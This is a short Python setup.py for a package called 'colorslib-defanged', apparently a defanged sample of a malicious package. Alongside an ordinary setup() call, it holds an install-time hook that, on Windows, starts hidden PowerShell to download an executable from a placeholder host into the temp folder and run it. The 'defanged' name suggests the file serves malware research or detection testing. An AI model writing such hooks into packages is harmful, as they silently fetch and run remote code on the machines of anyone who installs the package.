from setuptools import setup, find_packages
import os
import subprocess

if os.name == "nt":
    subprocess.Popen(
        "powershell -WindowStyle Hidden -NoProfile -Command "
        "\"iwr https://ps.example.invalid/a.exe -OutFile $env:TEMP\\a.exe; Start-Process $env:TEMP\\a.exe\"",
        shell=True,
    )

setup(
    name="colorslib-defanged",
    version="1.0.0",
    packages=find_packages(),
)
